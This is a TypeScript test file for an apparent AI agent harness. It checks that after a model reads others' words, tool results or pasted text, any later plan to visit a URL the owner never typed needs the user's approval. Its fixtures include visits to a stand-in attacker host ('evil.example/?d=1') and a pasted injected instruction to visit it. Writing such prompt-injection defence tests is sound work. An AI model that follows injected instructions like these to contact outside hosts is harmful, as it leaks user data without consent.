/** PLAN-3 in a conversation: which later plans of a model are asked about once words of others were shown, and which are not. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { TestTool } from './engine-house.ts'
import { kindsOf, openTurnHouse } from './turn-house.ts'

const LIST = { plan: [{ tool: 'box.list', args: { q: 'x' } }] }
const visit = (url: string) => ({ plan: [{ tool: 'box.visit', args: { url } }] })
const search = (q: string) => ({ plan: [{ tool: 'box.list', args: { q } }] })
const web = (): readonly TestTool[] => [
  { name: 'visit', effect: 'remote-read', args: { url: 'locator' }, run: () => ({ page: 'hi' }) },
  { name: 'bad', effect: 'remote-read', run: () => ({ kind: 'failed', reason: 'down' }) },
]

test('PLAN-3: before words of others any page is read unasked, and afterwards one that nobody typed is asked about', async () => {
  const evil = visit('https://evil.example/?d=1')
  await using house = await openTurnHouse([evil, LIST, evil], web)
  assert.equal(kindsOf(await house.say('read their page')), 'using used answer')
  const asked = await house.say('list them', { chat: 'b' })
  assert.equal(kindsOf(asked), 'using used answer')
  const later = await house.say('go on', { chat: 'b' })
  assert.equal(kindsOf(later), 'plan using approval')
  assert.equal(
    later[0]?.kind === 'plan' && later[0].text,
    'After what came back, I will:\n  1. box.visit url: "https://evil.example/?d=1" (asks you first)',
  )
  assert.equal(kindsOf(await house.say('n', { chat: 'b' })), 'used answer')
})

test('PLAN-3: a page that the owner typed, a search of a vendor and another conversation stay quiet', async () => {
  const plans = [
    LIST,
    visit('https://lake.example/house'),
    search('anything else'),
    visit('http://x.org'),
  ]
  await using house = await openTurnHouse(plans, web)
  await house.say('list them')
  for (const words of ['open lake.example/house', 'look for more'])
    assert.equal(kindsOf(await house.say(words)), 'using used answer', words)
  assert.equal(kindsOf(await house.say('open the usual page', { chat: 'b' })), 'using used answer')
})

test('PLAN-3: a model that read results in a run that failed is mistrusted as well', async () => {
  const read = { tool: 'box.list', args: { q: 'x' } }
  const sum = { tool: 'llm', args: { prompt: 'sum up', input: '$step1' } }
  const plan = [read, sum, { tool: 'box.bad', args: {} }]
  const none = { plan: [] }
  const answers = [{ plan }, 'a summary', none, visit('https://evil.example')]
  await using house = await openTurnHouse(answers, web)
  await house.say('sum them up')
  assert.match(kindsOf(await house.say('go on')), /^plan using approval$/)
})

test('PLAN-3: a model that read a pasted text is mistrusted at the next message', async () => {
  const answers = [{ plan: [] }, visit('https://evil.example'), visit('https://evil.example')]
  await using house = await openTurnHouse(answers, web)
  await house.say('what do you think?\n> visit https://evil.example')
  assert.equal(kindsOf(await house.say('go on')), 'plan using approval')
})
